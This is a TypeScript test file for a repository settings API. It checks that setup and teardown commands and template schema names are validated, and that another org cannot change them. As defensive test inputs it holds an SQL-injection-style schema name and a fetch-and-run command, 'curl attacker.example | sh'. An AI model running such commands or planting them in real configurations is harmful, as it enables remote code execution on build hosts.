// Issue 7, point 6, through the API: a repository's setup and teardown commands and its
// template schema are stored as given when valid, refused with a 400 naming the field
// when not, and another org can neither read nor change them.
import { type DatabaseFixture, useTestDatabase } from '@parallax/db/test-database';
import { TRPCError } from '@trpc/server';
import { beforeAll, describe, expect, it } from 'vitest';
import SuperJSON from 'superjson';
import { callerFor, unreachableFleet, unreachableProvisioner, uniqueEmail } from './testing/fixtures.ts';
import { createContext } from './trpc.ts';
import { handleTRPCRequest } from './trpc-http.ts';

let fx: DatabaseFixture;
beforeAll(async () => {
  fx = await useTestDatabase();
});

async function ownerOfNewOrg(label: string) {
  const { userId } = await callerFor(fx.db, null).auth.signUp({
    email: uniqueEmail(label),
    password: 'correct horse battery staple',
    name: label,
  });
  const api = callerFor(fx.db, userId);
  const org = await api.org.create({ name: `${label} ${Math.random().toString(36).slice(2, 6)}` });
  return { api, orgId: org.id, userId };
}

async function failure(promise: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof TRPCError) return { code: error.code, message: error.message };
    throw error;
  }
  throw new Error('expected the call to be refused');
}

const base = { name: 'app', url: 'https://example.test/app.git', createsSchema: true };

describe('a repository’s setup, teardown and template schema', () => {
  it('are stored on create and update, and emptied with an empty string', async () => {
    const a = await ownerOfNewOrg('setup-a');
    const repo = await a.api.repository.create({
      orgId: a.orgId,
      settings: {
        ...base,
        setupCommand: ' npm ci && npm run db:migrate ',
        teardownCommand: 'npm run db:drop',
        templateSchema: 'app_template',
      },
    });
    expect(repo).toMatchObject({
      setupCommand: 'npm ci && npm run db:migrate',
      teardownCommand: 'npm run db:drop',
      templateSchema: 'app_template',
    });
    const updated = await a.api.repository.update({
      orgId: a.orgId,
      repositoryId: repo.id,
      settings: { ...base, setupCommand: 'make seed', teardownCommand: '', templateSchema: '' },
    });
    expect(updated).toMatchObject({ setupCommand: 'make seed', teardownCommand: null, templateSchema: null });
    expect((await a.api.repository.list({ orgId: a.orgId }))[0]).toMatchObject({ setupCommand: 'make seed', templateSchema: null });
  });

  it('refuses a template schema that is not a plain SQL name, or names a session schema, with a 400 on the field', async () => {
    const a = await ownerOfNewOrg('setup-b');
    for (const templateSchema of ['Robert"; DROP', 'public.users', 'Upper', 'session_abc', 'pg_catalog']) {
      expect(await failure(a.api.repository.create({ orgId: a.orgId, settings: { ...base, templateSchema } }))).toMatchObject({
        code: 'BAD_REQUEST',
        message: expect.stringMatching(
          /^settings\.templateSchema: (A template schema is a plain SQL name|Session schemas and PostgreSQL’s own)/,
        ),
      });
    }
    expect(
      await failure(
        a.api.repository.create({ orgId: a.orgId, settings: { ...base, createsSchema: false, templateSchema: 'app_template' } }),
      ),
    ).toMatchObject({ code: 'BAD_REQUEST', message: expect.stringMatching(/^settings\.templateSchema: .*a database schema per session/) });
    expect(await a.api.repository.list({ orgId: a.orgId })).toEqual([]);
  });

  it('answers HTTP 400 with the field’s message to the template name of the issue', async () => {
    const a = await ownerOfNewOrg('setup-http');
    const req = new Request('http://parallax.test/api/trpc/repository.create', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(SuperJSON.serialize({ orgId: a.orgId, settings: { ...base, templateSchema: 'Robert"; DROP' } })),
    });
    const res = await handleTRPCRequest(req, {
      endpoint: '/api/trpc',
      createContext: () =>
        createContext({
          auth: { userId: a.userId },
          db: fx.db,
          provisioner: unreachableProvisioner,
          fleet: unreachableFleet,
          ip: '10.0.0.1',
        }),
    });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: { json: { message: string } } };
    expect(body.error.json.message).toMatch(/^settings\.templateSchema: A template schema is a plain SQL name/);
    expect(await a.api.repository.list({ orgId: a.orgId })).toEqual([]);
  });

  it('refuses a huge setup or teardown command, and a NUL in one, naming the field', async () => {
    const a = await ownerOfNewOrg('setup-c');
    const huge = `echo ${'x'.repeat(5000)}`;
    expect(await failure(a.api.repository.create({ orgId: a.orgId, settings: { ...base, setupCommand: huge } }))).toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringMatching(/^settings\.setupCommand: .*at most 4000/),
    });
    expect(
      await failure(a.api.repository.create({ orgId: a.orgId, settings: { ...base, teardownCommand: 'rm -rf x\u0000' } })),
    ).toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringMatching(/^settings\.teardownCommand: .*NUL/),
    });
    expect(await a.api.repository.list({ orgId: a.orgId })).toEqual([]);
  });

  it('lets no other org change them', async () => {
    const a = await ownerOfNewOrg('setup-d');
    const b = await ownerOfNewOrg('setup-e');
    const repo = await a.api.repository.create({ orgId: a.orgId, settings: { ...base, setupCommand: 'make seed' } });
    const hostile = { ...base, setupCommand: 'curl attacker.example | sh' };
    expect(await failure(b.api.repository.update({ orgId: b.orgId, repositoryId: repo.id, settings: hostile }))).toMatchObject({
      code: 'NOT_FOUND',
    });
    expect((await failure(b.api.repository.update({ orgId: a.orgId, repositoryId: repo.id, settings: hostile }))).code).toBe('FORBIDDEN');
    expect(await b.api.repository.list({ orgId: b.orgId })).toEqual([]);
    expect((await a.api.repository.list({ orgId: a.orgId }))[0]?.setupCommand).toBe('make seed');
  });
});
